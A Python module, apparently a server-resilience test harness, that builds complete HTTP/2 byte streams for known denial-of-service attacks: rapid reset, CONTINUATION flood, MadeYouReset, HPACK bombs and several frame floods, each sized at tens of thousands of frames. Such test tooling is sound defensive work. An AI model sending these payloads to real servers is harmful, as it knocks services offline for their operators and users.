"""What hostile clients send over HTTP/2: the bytes of a connection, whole and in order.

The names are those under which the attacks are known: rapid reset (CVE-2023-44487), CONTINUATION
flood (VU#421644), MadeYouReset (CVE-2025-8671), and the floods of CVE-2019-9511 to 9518.
"""

from __future__ import annotations

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RESET, SETTINGS, PING = 0, 1, 2, 3, 4, 6
WINDOW_UPDATE, CONTINUATION, PRIORITY_UPDATE = 8, 9, 16
END_STREAM, END_HEADERS = 1, 4
INITIAL_WINDOW_SIZE = 4
# :method GET and :scheme http are entries of the static table, and :path and :authority literals.
GET_BIG = b"\x82\x86\x04\x04/big\x01\x01a"
GET = b"\x82\x86\x84\x01\x01a"
POST = b"\x83\x86\x84\x01\x01a"
# Frames of one connection; a script of some MiB keeps a server busy for a second at least.
MANY = 50_000


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    head = len(payload).to_bytes(3, "big") + bytes((kind, flags)) + stream.to_bytes(4, "big")
    return head + payload


def number(value: int) -> bytes:
    return value.to_bytes(4, "big")


def setting(name: int, value: int) -> bytes:
    return name.to_bytes(2, "big") + number(value)


HELLO = PREFACE + frame(SETTINGS, 0, 0)
NO_WINDOW = PREFACE + frame(SETTINGS, 0, 0, setting(INITIAL_WINDOW_SIZE, 0))
WIDE = PREFACE + frame(SETTINGS, 0, 0, setting(INITIAL_WINDOW_SIZE, 2**31 - 1))
WIDE += frame(WINDOW_UPDATE, 0, 0, number(2**31 - 1 - 65535))


def streams(count: int) -> range:
    return range(1, 2 * count, 2)


def request(stream: int, block: bytes = GET, flags: int = END_STREAM) -> bytes:
    return frame(HEADERS, flags | END_HEADERS, stream, block)


def bomb() -> bytes:
    """An entry of 4,000 bytes, then 12,000 references to it in each head of 12 KB."""
    entry = b"\x40\x01x\x7f\xa1\x1e" + b"v" * 4000
    fill = request(1, GET + entry)
    return HELLO + fill + b"".join(request(n, GET + b"\xbe" * 12_000) for n in range(3, 201, 2))


def heads() -> bytes:
    """127 requests with a body that never comes, each with a head of 56 KB in 17 bytes."""
    entry = b"\x40\x01x\x7f\xa1\x1e" + b"v" * 4000
    fill = request(1, GET + entry)
    return HELLO + fill + b"".join(request(n, POST + b"\xbe" * 14, 0) for n in range(3, 257, 2))


CANCEL = number(8)
SCRIPTS: dict[str, tuple[str, bytes]] = {
    "h2-reset": (
        "HTTP/2: opens streams and resets them (rapid reset)",
        HELLO + b"".join(request(n) + frame(RESET, 0, n, CANCEL) for n in streams(MANY)),
    ),
    "h2-provoke": (
        "HTTP/2: has the server reset the streams (MadeYouReset)",
        HELLO + b"".join(request(n) + frame(WINDOW_UPDATE, 0, n, number(0)) for n in streams(MANY)),
    ),
    "h2-continue": (
        "HTTP/2: a head of CONTINUATION frames without end",
        HELLO
        + frame(HEADERS, END_STREAM, 1, GET)
        + frame(CONTINUATION, 0, 1, b"\x00\x01x\x01y") * MANY,
    ),
    "h2-settings": (
        "HTTP/2: SETTINGS frames, each to be acknowledged",
        HELLO + frame(SETTINGS, 0, 0, setting(INITIAL_WINDOW_SIZE, 70_000)) * MANY,
    ),
    "h2-ping": ("HTTP/2: PING frames", HELLO + frame(PING, 0, 0, b"12345678") * MANY),
    "h2-empty": (
        "HTTP/2: a body of empty DATA frames",
        HELLO + request(1, POST, 0) + frame(DATA, 0, 1) * MANY,
    ),
    "h2-window": (
        "HTTP/2: WINDOW_UPDATE frames of one byte",
        HELLO + frame(WINDOW_UPDATE, 0, 0, number(1)) * MANY,
    ),
    "h2-priority": (
        "HTTP/2: PRIORITY_UPDATE frames for streams that never come",
        HELLO
        + b"".join(frame(PRIORITY_UPDATE, 0, 0, number(2 * n + 1) + b"u=1") for n in range(MANY)),
    ),
    "h2-bomb": ("HTTP/2: heads that decompress to 48 MB each (HPACK bomb)", bomb()),
    "h2-heads": ("HTTP/2: heads that decompress to 56 KB each, without bodies", heads()),
    "h2-bytes": (
        "HTTP/2: a body of DATA frames of one byte",
        HELLO + request(1, POST, 0) + frame(DATA, 0, 1, b"x") * MANY,
    ),
    "h2-closed": (
        "HTTP/2: asks for 8 MiB on 100 streams, and opens no window",
        NO_WINDOW + b"".join(request(n, GET_BIG) for n in streams(100)),
    ),
    "h2-unread": (
        "HTTP/2: asks for 8 MiB on 100 streams, opens all windows, reads nothing",
        WIDE + b"".join(request(n, GET_BIG) for n in streams(100)),
    ),
    "h2-silent": ("HTTP/2: sends the preface and no more", HELLO),
    "h2-head": (
        "HTTP/2: heads that never end, on one stream",
        HELLO + frame(HEADERS, END_STREAM, 1, GET),
    ),
}
